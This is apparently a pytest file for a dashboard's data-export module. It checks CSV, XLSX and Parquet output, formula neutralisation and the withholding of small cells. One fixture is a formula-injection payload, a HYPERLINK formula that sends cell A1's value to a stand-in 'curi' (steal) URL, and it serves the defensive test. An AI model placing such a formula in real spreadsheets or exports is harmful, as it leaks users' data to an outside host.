"""Downloads read back the way a user's tools read them: CSV with polars, XLSX with openpyxl, Parquet with polars.

The formula-injection fixture is built here (a firm registered as ``=HYPERLINK(...)``), because the sample
generator never writes such names; one test also exports a real filtered view from the fixture warehouse.
"""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import polars as pl
import pyarrow.parquet as pq
import pytest

from dasbor.views import captions, sel_kecil, unduhan
from dasbor.views.filter_ikm import FilterIkm
from dasbor.warehouse import db
from tests.conftest import Fixture

JAHAT = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'
KETERANGAN = [("Judul", "Daftar IKM"), ("Tahun data registri", "2025"), ("Catatan", "-rumus di keterangan")]


def _firma() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "nama_usaha": [JAHAT, "+62 Kopi", "-Minus Jaya", "@Rotan", "UD Sasirangan Galuh", "\tTab", None],
            "kabupaten": ["Banjar"] * 7,
            "tenaga_kerja_l": [3, 4, 5, 6, 7, 8, 9],
            "investasi_rp": [1_250_000_000, 2, 3, 4, 5, 6, 7],
            "rasio": [0.5, 1.25, 2.0, 3.5, 4.75, 5.0, 6.0],
            "halal": [True, False, True, False, True, False, None],
            "tanggal_halal": [dt.date(2024, 10, 17), None, None, None, None, None, None],
        }
    )


def test_netralkan_prefixes_only_formula_starts() -> None:
    hasil = unduhan.netralkan(_firma())["nama_usaha"].to_list()
    assert hasil == ["'" + JAHAT, "'+62 Kopi", "'-Minus Jaya", "'@Rotan", "UD Sasirangan Galuh", "'\tTab", None]


@pytest.mark.parametrize("pemisah", [",", ";"])
def test_csv_reads_back_with_both_separators(pemisah: unduhan.Pemisah) -> None:
    isi = unduhan.ke_csv(_firma(), pemisah=pemisah, contoh=True)
    assert isi.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    baca = pl.read_csv(isi, separator=pemisah, decimal_comma=pemisah == ";")
    assert baca.columns == [*_firma().columns, unduhan.KOLOM_CONTOH]
    assert baca["nama_usaha"][0] == "'" + JAHAT
    assert baca["nama_usaha"].drop_nulls().str.contains(r"^[=+\-@\t]").sum() == 0
    assert baca["investasi_rp"].to_list() == _firma()["investasi_rp"].to_list()
    assert baca["rasio"].to_list() == _firma()["rasio"].to_list()
    assert set(baca[unduhan.KOLOM_CONTOH].to_list()) == {captions.TEKS_CONTOH}


def test_csv_semicolon_variant_writes_decimal_commas() -> None:
    teks = unduhan.ke_csv(_firma(), pemisah=";", contoh=False).decode("utf-8-sig").splitlines()
    assert teks[0] == "nama_usaha;kabupaten;tenaga_kerja_l;investasi_rp;rasio;halal;tanggal_halal"
    assert ";1,25;" in teks[2]
    assert "2024-10-17" in teks[1]
    assert unduhan.KOLOM_CONTOH not in teks[0]


def test_xlsx_has_data_and_description_sheets_and_no_formula() -> None:
    isi = unduhan.ke_xlsx(_firma(), KETERANGAN, contoh=True)
    wb = openpyxl.load_workbook(io.BytesIO(isi))
    assert wb.sheetnames == ["Data", "Keterangan"]
    data = wb["Data"]
    kepala = [c.value for c in data[1]]
    assert kepala == [*_firma().columns, unduhan.KOLOM_CONTOH]
    nama = data.cell(row=2, column=1)
    assert nama.data_type == "s" and nama.value == "'" + JAHAT
    assert all(c.data_type != "f" for baris in data.iter_rows() for c in baris)
    assert data.cell(row=2, column=4).value == 1_250_000_000
    assert data.cell(row=3, column=5).value == 1.25
    assert data.cell(row=2, column=6).value is True
    assert data.cell(row=2, column=7).value == dt.datetime(2024, 10, 17)
    assert data.cell(row=8, column=1).value is None
    ket = {r[0].value: r[1].value for r in wb["Keterangan"].iter_rows()}
    assert ket["Status data"] == captions.TEKS_CONTOH
    assert ket["Judul"] == "Daftar IKM"
    assert ket["Catatan"] == "'-rumus di keterangan"


def test_parquet_keeps_types_label_and_description() -> None:
    isi = unduhan.ke_parquet(_firma(), KETERANGAN, contoh=True)
    baca = pl.read_parquet(io.BytesIO(isi))
    assert baca.drop(unduhan.KOLOM_CONTOH).equals(_firma())
    assert set(baca[unduhan.KOLOM_CONTOH].to_list()) == {captions.TEKS_CONTOH}
    meta = pq.read_metadata(io.BytesIO(isi)).metadata
    assert meta[b"Judul"] == b"Daftar IKM"


def test_no_sample_label_when_data_are_not_sample() -> None:
    baca = pl.read_parquet(io.BytesIO(unduhan.ke_parquet(_firma(), KETERANGAN, contoh=False)))
    assert unduhan.KOLOM_CONTOH not in baca.columns
    wb = openpyxl.load_workbook(io.BytesIO(unduhan.ke_xlsx(_firma(), KETERANGAN, contoh=False)))
    assert "Status data" not in {r[0].value for r in wb["Keterangan"].iter_rows()}


def test_small_cells_are_withheld_from_every_format() -> None:
    rekap = pl.DataFrame(
        {
            "kabupaten": ["Tapin", "Balangan", "Banjar", "Tanah Laut"],
            "jumlah_ikm": [1, 2, 3, 0],
            "tenaga_kerja_l": [4, 9, 30, None],
            "investasi_rp": [111_111, 222_222, 333_333, None],
        }
    )
    aman = sel_kecil.untuk_unduhan(rekap)
    for baca in (
        pl.read_csv(unduhan.ke_csv(aman, pemisah=";", contoh=True), separator=";", decimal_comma=True),
        pl.read_parquet(io.BytesIO(unduhan.ke_parquet(aman, KETERANGAN, contoh=True))),
    ):
        assert baca["jumlah_ikm"].to_list() == [None, None, 3, 0]
        assert baca["investasi_rp"].to_list() == [None, None, 333_333, None]
        assert baca["catatan"].to_list() == [sel_kecil.CATATAN_DITAHAN] * 2 + [None, None]
    wb = openpyxl.load_workbook(io.BytesIO(unduhan.ke_xlsx(aman, KETERANGAN, contoh=True)))
    nilai = [c.value for baris in wb["Data"].iter_rows(min_row=2) for c in baris]
    for rahasia in (1, 2, 4, 9, 111_111, 222_222):
        assert rahasia not in nilai


def test_sources_become_plain_text_lines() -> None:
    sumber = pl.DataFrame(
        {
            "nama": ["Registri IKM contoh"],
            "jenis": ["contoh"],
            "url": [None],
            "tanggal_data": [dt.date(2025, 12, 31)],
        }
    )
    assert unduhan.keterangan_sumber(sumber) == [
        ("Sumber", "Registri IKM contoh (data contoh) · data per 31 Desember 2025")
    ]
    assert unduhan.keterangan_sumber(sumber.clear()) == [("Sumber", "belum tercatat")]


def test_a_real_filtered_view_exports_exactly_its_rows(gudang: Fixture) -> None:
    f = FilterIkm(tahun=2025, kab=("6372",), sektor=("Logam dan Elektronika",))
    con = db.connect(gudang.warehouse, read_only=True)
    try:
        daftar = db.run_query(con, "ikm_daftar", **f.params(), batas=None, mulai=0)
    finally:
        con.close()
    ikm = pl.read_parquet(gudang.masukan / "ikm" / "*.parquet").filter(
        (pl.col("tahun_data") == 2025) & (pl.col("kode_bps") == "6372") & (pl.col("sektor") == "Logam dan Elektronika")
    )
    assert daftar.height == ikm.height > 0
    baca = pl.read_csv(unduhan.ke_csv(daftar, pemisah=";", contoh=True), separator=";", decimal_comma=True)
    assert sorted(baca["id"].to_list()) == sorted(ikm["id"].to_list())
    assert baca["investasi_rp"].sum() == ikm["investasi_rp"].sum()
    wb = openpyxl.load_workbook(io.BytesIO(unduhan.ke_xlsx(daftar, KETERANGAN, contoh=True)), read_only=True)
    assert wb["Data"].max_row == ikm.height + 1
